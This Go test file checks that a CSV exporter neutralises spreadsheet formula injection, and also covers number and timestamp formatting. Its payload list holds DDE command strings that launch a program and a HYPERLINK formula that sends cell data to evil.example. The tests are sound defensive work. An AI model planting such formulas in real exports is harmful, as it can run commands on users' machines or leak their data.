package export

import (
	"bytes"
	"encoding/csv"
	"math"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"github.com/digital-diplomacy/tailor/data"
	"github.com/digital-diplomacy/tailor/data/lake"
)

// original returns the text that [Neutral] made a cell of.
func original(cell string) string {
	if rest, quoted := strings.CutPrefix(cell, "'"); quoted && steers(rest) {
		return rest
	}
	return cell
}

// payloads are texts that spreadsheets run, after OWASP's list on CSV injection.
func payloads() []string {
	return []string{
		"=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://evil.example?x=\"&A1,\"go\")", "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
		"\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "'=1+1", "''=1+1", "@embassy", "-", "=", "\t",
	}
}

func TestNeutral(t *testing.T) {
	for _, p := range payloads() {
		if got := Neutral(p); !strings.HasPrefix(got, "'") || original(got) != p {
			t.Errorf("Neutral(%q) = %q", p, got)
		}
	}
	for _, harmless := range []string{"", "a=b", "'", "'tis", "1", "#tag", "https://a.example/?q=1", "مرحبا"} {
		if got := Neutral(harmless); got != harmless {
			t.Errorf("Neutral(%q) = %q, want it unchanged", harmless, got)
		}
	}
	rapid.Check(t, func(t *rapid.T) {
		s := rapid.OneOf(rapid.String(), rapid.StringMatching("['=+\\-@\t\r\nx]{0,5}")).Draw(t, "text")
		if got := original(Neutral(s)); got != s {
			t.Fatalf("%q came back as %q", s, got)
		}
		if c := Neutral(s); c != "" && strings.ContainsRune(steering, []rune(c)[0]) {
			t.Fatalf("%q begins with a steering character", c)
		}
	})
}

// TestNumbersStayNumbers has text neutralised and numbers not, in one row.
func TestNumbersStayNumbers(t *testing.T) {
	var c lake.Changes
	low := -0.25
	a := data.Advice{Period: "2026-W07", Mission: "=Mission", Rank: 1, Lift: &low, Verdict: "-"}
	if err := lake.Replace(&c, lake.AdviceTable, "period=2026-W07", []data.Advice{a}, ""); err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	if _, err := Table(t.Context(), &b, lake.Over(nothing{}, &c), docOf(t, "advice"), CSV, false); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	for column, want := range map[string]string{"mission": "'=Mission", "lift": "-0.25", "verdict": "'-", "low": "", "rank": "1"} {
		for i, name := range rows[0] {
			if name == column && rows[1][i] != want {
				t.Errorf("%s is %q, want %q", name, rows[1][i], want)
			}
		}
	}
}

// TestNoFormulaAnywhere writes every payload into every text of every table: no cell
// begins with what a spreadsheet would run.
func TestNoFormulaAnywhere(t *testing.T) {
	cells := 0
	for _, doc := range lake.Dictionary() {
		for _, p := range payloads() {
			values := make([]any, len(doc.Columns))
			for i, c := range doc.Columns {
				switch {
				case c.Shape.Kind == lake.KindList && c.Shape.Elem.Kind == lake.KindString:
					values[i] = []any{p, p}
				case c.Shape.Kind == lake.KindString:
					values[i] = p
				}
			}
			var b bytes.Buffer
			w, err := newCSV(&b, doc)
			if err == nil {
				err = w.write(values)
			}
			if err == nil {
				err = w.close()
			}
			if err != nil {
				t.Fatalf("%s: %v", doc.Name, err)
			}
			rows, err := csv.NewReader(&b).ReadAll()
			if err != nil || len(rows) != 2 {
				t.Fatalf("%s: %d rows, %v", doc.Name, len(rows), err)
			}
			for i, cell := range rows[1] {
				if cell != "" {
					cells++
				}
				if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r\n") || strings.HasPrefix(cell, "＝") {
					t.Errorf("%s.%s holds %q", doc.Name, rows[0][i], cell)
				}
			}
		}
	}
	if cells < 1000 {
		t.Errorf("only %d cells were tried", cells)
	}
}

func TestFormatting(t *testing.T) {
	for _, c := range []struct {
		v    any
		kind lake.Kind
		want string
	}{
		{0.1, lake.KindFloat64, "0.1"}, {1e6, lake.KindFloat64, "1000000"}, {1e-7, lake.KindFloat64, "1e-07"}, {1e21, lake.KindFloat64, "1e+21"},
		{math.Inf(-1), lake.KindFloat64, "-Infinity"}, {int64(math.MaxInt64), lake.KindInt64, "9223372036854775807"},
		{data.Thousandth(-1500), lake.KindDecimal, "-1.5"}, {data.Micros(0), lake.KindTimestamp, "1970-01-01T00:00:00.000000Z"},
		{data.Micros(1_780_000_000_000_001), lake.KindTimestamp, "2026-05-28T20:26:40.000001Z"}, {nil, lake.KindInt64, ""},
	} {
		if got := Text(c.v, lake.Shape{Kind: c.kind}); got != c.want {
			t.Errorf("Text(%v) = %q, want %q", c.v, got, c.want)
		}
	}
}
